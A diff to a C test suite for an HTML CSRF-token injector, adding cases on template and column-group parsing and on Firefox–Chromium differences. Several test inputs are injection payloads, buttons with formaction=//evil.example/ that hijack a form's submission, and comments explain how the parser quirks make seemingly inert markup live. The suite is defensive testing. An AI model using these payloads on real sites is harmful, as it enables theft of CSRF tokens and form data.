@@ -359,21 +359,155 @@ static const row rows[] = {
     {"attack template form end", EF "<template></form></template>" RF, EF "<template></form></template>" RF, 0},
     {"attack cdata form end", EF "<svg><![CDATA[x></form>]]></svg>" RF, EF "<svg><![CDATA[x></form>]]></svg>" RF, 0},
     /* template contents whose first start tag is <col>: "in column group"
-     * with the template current, where <title> or <noembed> starts no raw
-     * text (a reader that takes it for one misses what follows): the
-     * model stops at such a <col>; a <col> after the contents' mode was
-     * picked by another tag is ignored as before */
-    {"template col first", "<template><col><title></template>" RF CL, "<template><col><title></template>" RF CL, 0},
+     * with the template current, where every start tag but col and
+     * template is ignored (a <title>, <script>, <plaintext> starts no raw
+     * text, an <svg> no foreign content, a <select> or <form> nothing)
+     * and every end tag but </template>; a <col> after the contents' mode
+     * was picked by another tag (a <span>, a <button>, a row) is ignored
+     * (the "in body" or table rules). Each row that gets a token after a
+     * <col> went without one before the model followed the mode (it
+     * stopped at the <col>) */
+    {"template col first", "<template><col><title></template>" RF CL, "<template><col><title></template>" RF IN CL, 1},
     {"template col after head tags", "<template><script></script><template></template><col></template>" RF CL,
-     "<template><script></script><template></template><col></template>" RF CL, 0},
+     "<template><script></script><template></template><col></template>" RF IN CL, 1},
+    {"template link meta col", "<template><link rel=x><meta charset=utf-8><col><title></template>" RF CL,
+     "<template><link rel=x><meta charset=utf-8><col><title></template>" RF IN CL, 1},
     {"template nested col", "<template><td><template><col></template></template>" RF CL,
-     "<template><td><template><col></template></template>" RF CL, 0},
+     "<template><td><template><col></template></template>" RF IN CL, 1},
     {"template table col", "<template><table><colgroup><col></table></template>" RF CL,
      "<template><table><colgroup><col></table></template>" RF IN CL, 1},
     {"template row col", "<template><tr><col><title></title></template>" RF CL,
      "<template><tr><col><title></title></template>" RF IN CL, 1},
     {"template cell then nested", "<template><td><template></template><col></template>" RF CL,
      "<template><td><template></template><col></template>" RF IN CL, 1},
+    /* Alpine.js: a column per item of a list */
+    {"template alpine colgroup",
+     "<table><colgroup><template x-for=\"c in cols\"><col :class=\"c\"></template></colgroup>"
+     "<tr><td>" RF CL "</td></tr></table>" RF CL,
+     "<table><colgroup><template x-for=\"c in cols\"><col :class=\"c\"></template></colgroup>"
+     "<tr><td>" RF IN CL "</td></tr></table>" RF IN CL,
+     2},
+    /* the column group's tags read as a browser does: a reader that took
+     * the <title> for raw text would miss the button sending f elsewhere
+     * (and close the template at the second </template>), and give f the
+     * token */
+    {"template col title button",
+     "<template><col><title></template><button form=f formaction=//evil.example/></title></template>"
+     "<form id=f method=post action=/f>" CL RF CL,
+     "<template><col><title></template><button form=f formaction=//evil.example/></title></template>"
+     "<form id=f method=post action=/f>" CL RF IN CL,
+     1},
+    {"template col ignores raw text",
+     "<template><col><script><style><textarea><xmp><iframe><noembed><noframes><noscript></template>" RF CL,
+     "<template><col><script><style><textarea><xmp><iframe><noembed><noframes><noscript></template>" RF IN CL, 1},
+    {"template col ignores plaintext", "<template><col><plaintext></template>" RF CL,
+     "<template><col><plaintext></template>" RF IN CL, 1},
+    {"template col ignores select", "<template><col><select></template>" RF CL,
+     "<template><col><select></template>" RF IN CL, 1},
+    /* no svg there: "<![CDATA[" starts a bogus comment, </template> in it */
+    {"template col ignores svg", "<template><col><svg><![CDATA[</template>]]></template>" RF CL,
+     "<template><col><svg><![CDATA[</template>]]></template>" RF IN CL, 1},
+    {"template col form ignored", "<template><col>" RF "<input name=a></template>" RF CL,
+     "<template><col>" RF "<input name=a></template>" RF IN CL, 1},
+    {"template col nested", "<template><col><template><tr><title>x</title></template><col><title></template>" RF CL,
+     "<template><col><template><tr><title>x</title></template><col><title></template>" RF IN CL, 1},
+    {"template col in nested", "<template><td><template><col><title></template><title>t</title></template>" RF CL,
+     "<template><td><template><col><title></template><title>t</title></template>" RF IN CL, 1},
+    {"template col after col", "<template><col><col/><COL span=2></template>" RF CL,
+     "<template><col><col/><COL span=2></template>" RF IN CL, 1},
+    /* a first start tag that is no head tag: the mode is picked, the
+     * <col> ignored, the <title> raw text */
+    {"template span col", "<template><span><col><title></template></title></template>" RF CL,
+     "<template><span><col><title></template></title></template>" RF IN CL, 1},
+    {"template div col", "<template><div class=x><col><title></template></title></template>" RF CL,
+     "<template><div class=x><col><title></template></title></template>" RF IN CL, 1},
+    {"template button col", "<template><button><col><title></template></title></template>" RF CL,
+     "<template><button><col><title></template></title></template>" RF IN CL, 1},
+    {"template input col", "<template><input name=a><col><title></template></title></template>" RF CL,
+     "<template><input name=a><col><title></template></title></template>" RF IN CL, 1},
+    {"template form col", "<template><form><col><title></template></title></template>" RF CL,
+     "<template><form><col><title></template></title></template>" RF IN CL, 1},
+    {"template long name col", "<template><linkx><col><title></template></title></template>" RF CL,
+     "<template><linkx><col><title></template></title></template>" RF IN CL, 1},
+    /* template contents whose first start tag is a table part, in a
+     * table: a <caption>, <col>, <colgroup>, <tbody>, <tfoot>, <thead> or
+     * <tr> in "in row" (a <td> or <th> first), or a </table>, </tbody>,
+     * </tfoot>, </thead> (or </tr> in "in row") that Firefox (153 ESR)
+     * looks for past the template: it finds the page's row, section or
+     * table, pops the template with it, and what the injector reads as
+     * inert template contents is live (Chromium 156 keeps the template,
+     * as the spec does). The button sends f elsewhere in Firefox; the
+     * model stops */
+    {"template cell caption firefox",
+     "<table><tr><td><template><td><caption><button form=f formaction=//evil.example/>x</button></template>"
+     "</td></tr></table><form id=f method=post action=/f>" CL,
+     "<table><tr><td><template><td><caption><button form=f formaction=//evil.example/>x</button></template>"
+     "</td></tr></table><form id=f method=post action=/f>" CL,
+     0},
+    {"template cell tr firefox",
+     "<table><tr><td><template><th></th><tr><button form=f formaction=//evil.example/>x</button></template>"
+     "</td></tr></table><form id=f method=post action=/f>" CL,
+     "<table><tr><td><template><th></th><tr><button form=f formaction=//evil.example/>x</button></template>"
+     "</td></tr></table><form id=f method=post action=/f>" CL,
+     0},
+    {"template cell end tr firefox",
+     "<table><tr><template><td></td></tr><button form=f formaction=//evil.example/>x</button></template></tr></table>"
+     "<form id=f method=post action=/f>" CL,
+     "<table><tr><template><td></td></tr><button form=f formaction=//evil.example/>x</button></template></tr></table>"
+     "<form id=f method=post action=/f>" CL,
+     0},
+    {"template tbody end table firefox",
+     "<table><tr><td><template><tbody></table>" RF "<button formaction=//evil.example/>x</button></template>" RF CL,
+     "<table><tr><td><template><tbody></table>" RF "<button formaction=//evil.example/>x</button></template>" RF CL, 0},
+    {"template row end tbody firefox",
+     "<table><tbody><tr><td><template><tr></tr></tbody>" RF
+     "<button formaction=//evil.example/>x</button></template>" RF CL,
+     "<table><tbody><tr><td><template><tr></tr></tbody>" RF
+     "<button formaction=//evil.example/>x</button></template>" RF CL,
+     0},
+    /* a </tbody> in a table of the contents' own with no <tbody> open
+     * there: Firefox pops the page's <tbody>, whatever the first tag */
+    {"template inner table end tbody firefox",
+     "<table><tbody><tr><td><template><div><table><tfoot></tbody><button form=f formaction=//evil.example/>x</button>"
+     "</template></td></tr></tbody></table><form id=f method=post action=/f>" CL,
+     "<table><tbody><tr><td><template><div><table><tfoot></tbody><button form=f formaction=//evil.example/>x</button>"
+     "</template></td></tr></tbody></table><form id=f method=post action=/f>" CL,
+     0},
+    /* a </table> in a select there closes the select, then the page's
+     * table in Firefox */
+    {"template select end table firefox",
+     "<table><tbody><tr><td><template><caption><select></table><button form=f formaction=//evil.example/>x</button>"
+     "</select></template></td></tr></tbody></table><form id=f method=post action=/f>" CL,
+     "<table><tbody><tr><td><template><caption><select></table><button form=f formaction=//evil.example/>x</button>"
+     "</select></template></td></tr></tbody></table><form id=f method=post action=/f>" CL,
+     0},
+    {"template nested cell caption firefox",
+     "<template><table><tr><td><template><td><caption></template></template>" RF CL,
+     "<template><table><tr><td><template><td><caption></template></template>" RF CL, 0},
+    /* what Firefox reads as Chromium does: rows in a template in a table
+     * (each closes its own), a cell template's tags with no table around
+     * it (no row to find: ignored), a table part after a <div> first */
+    {"template rows in table", "<table><template><tr><td>a</td></tr><tr><td>b</td></tr></template></table>" RF CL,
+     "<table><template><tr><td>a</td></tr><tr><td>b</td></tr></template></table>" RF IN CL, 1},
+    {"template cell caption no table", "<template><td><caption><tr></tr></template>" RF CL,
+     "<template><td><caption><tr></tr></template>" RF IN CL, 1},
+    {"template div caption in table", "<table><tr><td><template><div><caption><tr></table></template></table>" RF CL,
+     "<table><tr><td><template><div><caption><tr></table></template></table>" RF IN CL, 1},
+    /* a tag Chromium reads as any other, Firefox by the head's rules: a
+     * <col> after it is "in body" in one, "in column group" in the
+     * other; the model stops */
+    {"template title col", "<template><title></title><col></template>" RF CL,
+     "<template><title></title><col></template>" RF CL, 0},
+    {"template basefont col", "<template><basefont><col></template>" RF CL,
+     "<template><basefont><col></template>" RF CL, 0},
+    {"template bgsound col", "<template><BGSOUND><col></template>" RF CL, "<template><BGSOUND><col></template>" RF CL,
+     0},
+    {"template base col", "<template><base href=/x><col></template>" RF CL,
+     "<template><base href=/x><col></template>" RF CL, 0},
+    {"template noframes col", "<template><noframes></noframes><col></template>" RF CL,
+     "<template><noframes></noframes><col></template>" RF CL, 0},
+    {"template title span col", "<template><title></title><span><col><title></title></template>" RF CL,
+     "<template><title></title><span><col><title></title></template>" RF IN CL, 1},
     /* a <frameset> the browser takes ("in frameset" ignores every start
      * tag but frameset, frame and noframes): a <title> there starts no
      * raw text, and a form the injector reads after it is text inside a
@@ -1586,11 +1720,20 @@ static void test_status(void **state)
 	     CSRF_INJECT_FRAMESET | CSRF_INJECT_STOPPED | CSRF_INJECT_LATE_BASE | CSRF_INJECT_LATE_BUTTON},
 	    /* without scripting the noscript's frameset is taken */
 	    {"<noscript><frameset></noscript>" RF CL, CSRF_INJECT_NOSCRIPT | CSRF_INJECT_STOPPED},
-	    /* the <title> is ignored there: the button is read, after a stop */
+	    /* the <title> is ignored there ("in column group"): the button is read */
 	    {"<form id=f method=post action=/f></form><template><col><title></template>"
 	     "<button form=f formaction=\"https://evil.example/\">",
-	     CSRF_INJECT_LATE_OWNER | CSRF_INJECT_LATE_BUTTON | CSRF_INJECT_LATE_BASE | CSRF_INJECT_TEMPLATE |
-	         CSRF_INJECT_STOPPED},
+	     CSRF_INJECT_LATE_OWNER},
+	    {"<template><col><title></template><button form=f formaction=//evil.example/><form id=f method=post>" CL,
+	     CSRF_INJECT_FORM_OWNER},
+	    {"<template><col>" RF CL "</template>", 0}, /* no form there: ignored */
+	    {"<template><tr>" RF CL "</template>", CSRF_INJECT_TEMPLATE},
+	    {"<table><colgroup><template x-for=\"c in cols\"><col :class=\"c\"></template></colgroup></table>" RF CL,
+	     0},
+	    /* "in body" in Chromium, "in column group" in Firefox: stopped */
+	    {"<template><title></title><col>" RF CL, CSRF_INJECT_TEMPLATE | CSRF_INJECT_STOPPED},
+	    {RF CL "<template><bgsound><col>",
+	     CSRF_INJECT_TEMPLATE | CSRF_INJECT_STOPPED | CSRF_INJECT_LATE_BASE | CSRF_INJECT_LATE_BUTTON},
 	    /* a button outside any form, after a form got the token: an
 	     * element left open in that form would make it the form's */
 	    {RF "<div></form><button formmethod=get>", CSRF_INJECT_LATE_BUTTON},
@@ -1987,6 +2130,28 @@ static void test_long_form_quiet(void **state)
 	}
 }
 
+/* times copies of piece at in + *n. */
+static void put_times(char *in, size_t *n, const char *piece, size_t times)
+{
+	for (size_t k = 0; k < times; k++, *n += strlen(piece))
+		memcpy(in + *n, piece, strlen(piece));
+}
+
+/* A page of nested elements: whole and cut at at0 and near its end, the
+ * same status; one token and no status when ok, else none and stop. */
+static void expect_deep(const char *in, size_t n, size_t at0, int ok, unsigned stop)
+{
+	unsigned count;
+	sink s;
+	run(in, n, NULL, 0, &s, &count);
+	sink_free(&s);
+	unsigned status = status_of(in, n, NULL, 0);
+	size_t at[] = {at0, n - 4};
+	assert_int_equal(status_of(in, n, at, 2), status);
+	assert_int_equal(count, ok ? 1 : 0);
+	assert_int_equal(status, ok ? 0 : stop);
+}
+
 /* Tables nested through cells: 32 are followed, and a form in the
  * innermost cell keeps its token; one more stops the injector (fail
  * closed: no token from there on, and the status says why). */
@@ -1997,26 +2162,29 @@ static void test_deep_tables(void **state)
 	for (size_t depth = 31; depth <= 33; depth++) {
 		char in[33 * sizeof open + 64];
 		size_t n = 0;
-		for (size_t k = 0; k < depth; k++) {
-			memcpy(in + n, open, strlen(open));
-			n += strlen(open);
-		}
-		memcpy(in + n, PF CL, strlen(PF CL));
-		n += strlen(PF CL);
-		unsigned count;
-		sink s;
-		run(in, n, NULL, 0, &s, &count);
-		sink_free(&s);
-		unsigned status = status_of(in, n, NULL, 0);
-		size_t at[] = {n / 2, n - 4};
-		assert_int_equal(status_of(in, n, at, 2), status);
-		if (depth <= 32) {
-			assert_int_equal(count, 1);
-			assert_int_equal(status, 0);
-		} else {
-			assert_int_equal(count, 0);
-			assert_int_equal(status, CSRF_INJECT_TABLE_FORM | CSRF_INJECT_STOPPED);
-		}
+		put_times(in, &n, open, depth);
+		put_times(in, &n, PF CL, 1);
+		expect_deep(in, n, n / 2, depth <= 32, CSRF_INJECT_TABLE_FORM | CSRF_INJECT_STOPPED);
+	}
+}
+
+/* Template contents 64 levels deep have their mode followed: a <col>
+ * first at the 64th is "in column group" (the <title> after it ignored,
+ * the form after the templates gets its token), and after a 65th level
+ * closes the 64th's mode is back; the model does not follow a 65th
+ * level's: a <col> there stops it. */
+static void test_deep_templates(void **state)
+{
+	(void)state;
+	static const char open[] = "<template>", close[] = "</template>", inner[] = "<col><template></template><title>";
+	for (size_t depth = 63; depth <= 65; depth++) {
+		char in[65 * (sizeof open + sizeof close) + sizeof inner + 64];
+		size_t n = 0;
+		put_times(in, &n, open, depth);
+		put_times(in, &n, inner, 1);
+		put_times(in, &n, close, depth);
+		put_times(in, &n, RF CL, 1);
+		expect_deep(in, n, depth * strlen(open) + 3, depth <= 64, CSRF_INJECT_TEMPLATE | CSRF_INJECT_STOPPED);
 	}
 }
 
@@ -2335,6 +2503,7 @@ int main(void)
 	    cmocka_unit_test(test_long_form_stops),
 	    cmocka_unit_test(test_long_form_quiet),
 	    cmocka_unit_test(test_deep_tables),
+	    cmocka_unit_test(test_deep_templates),
 	    cmocka_unit_test(test_attr_masks),
 	    cmocka_unit_test(test_long_form),
 	    cmocka_unit_test(test_stopped_passes),
